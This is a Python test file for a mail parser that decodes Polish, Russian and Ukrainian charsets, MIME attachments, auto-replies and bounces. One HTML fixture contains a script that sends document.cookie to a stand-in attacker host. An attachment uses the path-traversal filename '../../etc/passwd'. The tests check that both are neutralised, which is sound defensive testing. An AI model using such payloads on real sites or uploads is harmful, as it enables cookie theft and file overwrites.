"""Mail shaped like what real clients send, written out byte for byte."""

import base64
import quopri
from datetime import UTC, datetime, timedelta, timezone

import pytest

from infopoint.mail.parsing import (
    MessageTooLarge,
    ParseError,
    decode_bytes,
    decode_header_value,
    html_to_text,
    parse_message,
    raw_message_key,
)

POLISH = "Dzień dobry, proszę o informację: gdzie złożyć wniosek? Zażółć gęślą jaźń."
RUSSIAN = "Здравствуйте! Подскажите, пожалуйста, где получить номер PESEL для ребёнка?"
UKRAINIAN = "Доброго дня! Підкажіть, будь ласка, де отримати їжу, ґрунт і житло? Євген"


def mail(
    body: bytes,
    *,
    content_type: str = "text/plain; charset=utf-8",
    encoding: str = "8bit",
    headers: str = "",
) -> bytes:
    head = (
        "From: Olena Kowalczuk <olena@example.org>\r\n"
        "To: Information Point <info-point@example.invalid>\r\n"
        "Subject: Question\r\n"
        "Date: Tue, 24 Nov 2026 10:15:00 +0100\r\n"
        "Message-ID: <q1@example.org>\r\n"
        "MIME-Version: 1.0\r\n"
        f"{headers}"
        f"Content-Type: {content_type}\r\n"
        f"Content-Transfer-Encoding: {encoding}\r\n\r\n"
    )
    return head.encode("ascii") + body


def test_headers_of_an_ordinary_message():
    parsed = parse_message(
        mail(
            b"Hello\r\n",
            headers=(
                "In-Reply-To: <ack-7@example.invalid>\r\n"
                "References: <first@example.org>\r\n <ack-7@example.invalid>\r\n"
                "Cc: a@example.org, B <b@example.org>\r\n"
                "Reply-To: other@example.org\r\n"
            ),
        )
    )
    assert parsed.message_id == "<q1@example.org>"
    assert parsed.has_message_id
    assert parsed.in_reply_to == "<ack-7@example.invalid>"
    assert parsed.references == ["<first@example.org>", "<ack-7@example.invalid>"]
    assert (parsed.from_name, parsed.from_address) == ("Olena Kowalczuk", "olena@example.org")
    assert parsed.to == ["info-point@example.invalid"]
    assert parsed.cc == ["a@example.org", "b@example.org"]
    assert parsed.reply_to == ["other@example.org"]
    assert parsed.subject == "Question"
    assert parsed.date == datetime(2026, 11, 24, 9, 15, tzinfo=UTC)
    assert parsed.text == "Hello"
    assert not parsed.html_present
    assert not parsed.is_automatic
    assert parsed.attachments == []


@pytest.mark.parametrize(
    ("text", "charset"),
    [
        (POLISH, "utf-8"),
        (POLISH, "windows-1250"),
        (POLISH, "iso-8859-2"),
        (RUSSIAN, "windows-1251"),
        (RUSSIAN, "koi8-r"),
        (UKRAINIAN, "koi8-u"),
        (UKRAINIAN, "utf-8"),
    ],
)
@pytest.mark.parametrize("encoding", ["8bit", "quoted-printable", "base64"])
def test_declared_charsets_and_transfer_encodings(text, charset, encoding):
    data = text.encode(charset)
    body = {
        "8bit": data,
        "quoted-printable": quopri.encodestring(data),
        "base64": base64.encodebytes(data),
    }[encoding]
    parsed = parse_message(
        mail(body, content_type=f'text/plain; charset="{charset}"', encoding=encoding)
    )
    assert parsed.text == text


@pytest.mark.parametrize(
    ("text", "charset"),
    [
        (POLISH, "windows-1250"),
        (POLISH, "iso-8859-2"),
        (RUSSIAN, "windows-1251"),
        (RUSSIAN, "koi8-r"),
        (UKRAINIAN, "koi8-u"),
    ],
)
@pytest.mark.parametrize("declared", [None, "us-ascii", "x-unknown-charset", "utf-8"])
def test_missing_or_wrong_charset_is_guessed(text, charset, declared):
    content_type = f"text/plain; charset={declared}" if declared else "text/plain"
    parsed = parse_message(mail(text.encode(charset), content_type=content_type))
    assert parsed.text == text


def test_charset_aliases_and_never_a_dangerous_codec():
    assert decode_bytes(RUSSIAN.encode("cp1251"), "win-1251") == RUSSIAN
    assert decode_bytes(POLISH.encode("cp1250"), "x-cp1250") == POLISH
    assert decode_bytes(b"\\u0041", "unicode_escape") == "\\u0041"
    assert decode_bytes(b"abc\x00def", "utf-8") == "abcdef"


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("=?UTF-8?B?0JfQsNC/0LjRgtCw0L3QvdGPINC/0YDQviBQRVNFTA==?=", "Запитання про PESEL"),
        ("=?windows-1250?Q?Pro=9Cba_o_informacj=EA?=", "Prośba o informację"),
        ("=?iso-8859-2?Q?Pro=B6ba?= =?iso-8859-2?Q?_o_kart=EA?=", "Prośba o kartę"),
        ("=?koi8-r?B?8NLJ18XU?=", "Привет"),
        ("=?utf-8?q?Re=3A_[IP-2026-0042]?= kaw\u0105", "Re: [IP-2026-0042] kawą"),
        # A two-byte character split across two encoded words.
        ("=?UTF-8?B?0J/RgNC4?= =?UTF-8?B?0LI=?=", "Прив"),
        ("=?UTF-8?B?0J/R?= =?UTF-8?B?gNC4?=", "При"),
        ("=?bogus-charset?Q?caf=E9?=", "café"),
        ("plain\r\n folded", "plain folded"),
    ],
)
def test_rfc2047_headers(header, expected):
    assert decode_header_value(header) == expected


def test_broken_encoded_words_do_not_raise():
    assert isinstance(decode_header_value("=?UTF-8?B?not base64!?="), str)
    assert isinstance(decode_header_value("=?UTF-8?Q?=FF=FE?="), str)


def test_raw_8bit_headers_are_decoded():
    raw = (
        "From: Иван <ivan@example.org>\r\nSubject: Вопрос о карте\r\n"
        "Content-Type: text/plain; charset=windows-1251\r\n\r\n"
    ).encode("cp1251") + "Текст".encode("cp1251")
    parsed = parse_message(raw)
    assert parsed.subject == "Вопрос о карте"
    assert parsed.from_name == "Иван"
    assert parsed.text == "Текст"
    raw_utf8 = "Subject: Pytanie o kartę\r\nFrom: a@example.org\r\n\r\nok".encode()
    assert parse_message(raw_utf8).subject == "Pytanie o kartę"


def test_html_only_mail_becomes_safe_text():
    html = (
        "<html><head><title>T</title><style>p{color:red}</style>"
        "<script>document.location='https://evil.example/'+document.cookie</script></head>"
        "<body><p>Dzień dobry,</p><p>proszę o <b>pomoc</b>.<br>Pozdrawiam</p>"
        '<img src="https://tracker.example/pixel.gif" alt="">'
        '<img src="https://tracker.example/logo.png" alt="Logo firmy">'
        '<a href="https://www.example.org/wniosek">formularz</a> '
        '<a href="javascript:alert(1)">kliknij</a>'
        "<ul><li>jeden</li><li>dwa</li></ul>"
        '<iframe src="https://evil.example/"></iframe><noscript>no script</noscript>'
        "<p>Ala &amp; kot &lt;3</p></body></html>"
    )
    parsed = parse_message(mail(html.encode("utf-8"), content_type="text/html; charset=utf-8"))
    assert parsed.html_present
    text = parsed.text
    assert "Dzień dobry," in text
    assert "proszę o pomoc.\nPozdrawiam" in text
    assert "formularz (https://www.example.org/wniosek)" in text
    assert "[Logo firmy]" in text
    assert "- jeden\n- dwa" in text
    assert "Ala & kot <3" in text
    for absent in ("document", "evil", "tracker", "javascript", "color", "<", "no script"):
        assert absent not in text.replace("<3", "")


def test_plain_part_wins_over_html_alternative():
    raw = (
        b"From: a@example.org\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n'
        b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlain words\r\n"
        b"--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>HTML words</p>\r\n"
        b"--b1--\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.text == "Plain words"
    assert parsed.html_present


def test_attachments_and_inline_images():
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    pdf = b"%PDF-1.4 fake scan of a residence card"
    raw = (
        b"From: a@example.org\r\nSubject: scan\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b"--outer\r\n"
        b'Content-Type: multipart/related; boundary="rel"\r\n\r\n'
        b"--rel\r\n"
        b'Content-Type: multipart/alternative; boundary="alt"\r\n\r\n'
        b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the scan.\r\n"
        b'--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<img src="cid:logo@x">\r\n'
        b"--alt--\r\n"
        b"--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(png) + b"--rel--\r\n"
        b"--outer\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=UTF-8''karta%20pobytu%20%C5%BC.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(pdf)
        + b"--outer\r\nContent-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="=?UTF-8?B?0LfQsNGP0LLQsC5kb2N4?="\r\n'
        b"\r\nxx\r\n"
        b"--outer\r\nContent-Type: text/plain\r\n"
        b'Content-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nroot\r\n'
        b"--outer--\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.text == "See the scan."
    assert parsed.html_present
    image, scan, docx, evil = parsed.attachments
    assert (image.content_type, image.inline, image.content_id, image.data) == (
        "image/png",
        True,
        "logo@x",
        png,
    )
    assert image.filename == "attachment-3.png"
    assert (scan.filename, scan.content_type, scan.data, scan.inline) == (
        "karta pobytu ż.pdf",
        "application/pdf",
        pdf,
        False,
    )
    assert docx.filename == "заява.docx"
    assert evil.filename == "passwd"


@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        ("Auto-Submitted: auto-replied\r\n", "Auto-Submitted: auto-replied"),
        ("Auto-Submitted: auto-generated; owner-email=x@example.org\r\n", "Auto-Submitted"),
        ("Precedence: bulk\r\n", "Precedence: bulk"),
        ("Precedence: junk\r\n", "Precedence: junk"),
        ("Precedence: list\r\n", "Precedence: list"),
        ("X-Autoreply: yes\r\n", "x-autoreply"),
        ("X-Autorespond: Out of office\r\n", "x-autorespond"),
        ("List-Id: Migrants <migrants.lists.example.org>\r\n", "list-id"),
        ("List-Unsubscribe: <mailto:leave@example.org>\r\n", "list-unsubscribe"),
        ("Return-Path: <>\r\n", "empty Return-Path"),
        ("X-Auto-Response-Suppress: All\r\n", "X-Auto-Response-Suppress"),
    ],
)
def test_automatic_mail_is_recognised(headers, reason):
    parsed = parse_message(mail(b"I am away.", headers=headers))
    assert parsed.is_automatic
    assert reason in parsed.automatic_reason


def test_our_own_mail_coming_back_is_automatic():
    raw = mail(b"Thank you").replace(b"olena@example.org", b"INFO-POINT@example.invalid")
    assert parse_message(raw).automatic_reason == "sent from our own address"


def test_people_are_not_automatic():
    parsed = parse_message(mail(b"Hi", headers="Auto-Submitted: no\r\nPrecedence: normal\r\n"))
    assert not parsed.is_automatic
    assert parsed.automatic_reason == ""


def test_bounce_from_mailer_daemon():
    raw = (
        b"From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\r\n"
        b"To: info-point@example.invalid\r\nSubject: Undelivered Mail Returned to Sender\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="r"\r\n\r\n'
        b"--r\r\nContent-Type: text/plain\r\n\r\nThe mail could not be delivered.\r\n"
        b"--r\r\nContent-Type: message/delivery-status\r\n\r\n"
        b"Reporting-MTA: dns; mx.example.org\r\n\r\n"
        b"Final-Recipient: rfc822; nobody@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        b"\r\n--r\r\nContent-Type: message/rfc822\r\n\r\n"
        b"From: info-point@example.invalid\r\nSubject: [IP-1] Thank you\r\n\r\nack\r\n"
        b"--r--\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.is_automatic
    assert parsed.automatic_reason == "sender mailer-daemon"
    assert parsed.text == "The mail could not be delivered."
    kinds = [attachment.content_type for attachment in parsed.attachments]
    assert kinds == ["message/delivery-status", "message/rfc822"]
    assert b"Status: 5.1.1" in parsed.attachments[0].data
    assert b"[IP-1] Thank you" in parsed.attachments[1].data
    report_only = raw.replace(b"MAILER-DAEMON@mx", b"robot@mx")
    assert parse_message(report_only).automatic_reason == "multipart/report"


def test_message_without_message_id_gets_a_stable_one():
    raw = b"From: a@example.org\r\nSubject: x\r\n\r\nbody"
    parsed = parse_message(raw)
    assert not parsed.has_message_id
    assert parsed.message_id.startswith("<sha256-")
    assert parsed.message_id == parse_message(raw).message_id == raw_message_key(raw)
    assert raw_message_key(mail(b"x")) == "<q1@example.org>"


def test_dates():
    naive = parse_message(mail(b"x").replace(b"+0100", b"-0000"))
    assert naive.date == datetime(2026, 11, 24, 10, 15, tzinfo=UTC)
    assert parse_message(mail(b"x").replace(b"Tue, 24 Nov 2026", b"yesterday")).date is None
    east = parse_message(mail(b"x").replace(b"+0100", b"+0300"))
    assert east.date.utcoffset() == timedelta(hours=3)
    assert east.date.tzinfo == timezone(timedelta(hours=3))


def test_broken_mime_still_gives_text():
    missing_boundary = (
        b"From: a@example.org\r\nContent-Type: multipart/mixed\r\n\r\nJust some text\r\n"
    )
    assert "Just some text" in parse_message(missing_boundary).text
    never_closed = (
        b'From: a@example.org\r\nContent-Type: multipart/mixed; boundary="z"\r\n\r\n'
        b"--z\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"SGVsbG8g!!d29ybGQ\r\n"
    )
    parsed = parse_message(never_closed)
    assert isinstance(parsed.text, str)
    assert parsed.defects


@pytest.mark.parametrize("raw", [b"", b"   \r\n\r\n", b"\r\n\r\njust a body"])
def test_what_is_not_mail_is_rejected(raw):
    with pytest.raises(ParseError):
        parse_message(raw)


def test_too_large_is_rejected_before_parsing(settings):
    settings.MAIL_MAX_MESSAGE_BYTES = 100
    with pytest.raises(MessageTooLarge):
        parse_message(mail(b"x" * 200))
    assert parse_message(mail(b"x" * 200), max_bytes=1000).text == "x" * 200


def test_html_to_text_keeps_mailto_links():
    assert html_to_text('<a href="mailto:a@example.org">write</a>') == "write (a@example.org)"
    assert html_to_text('<a href="https://x.example">https://x.example</a>') == "https://x.example"
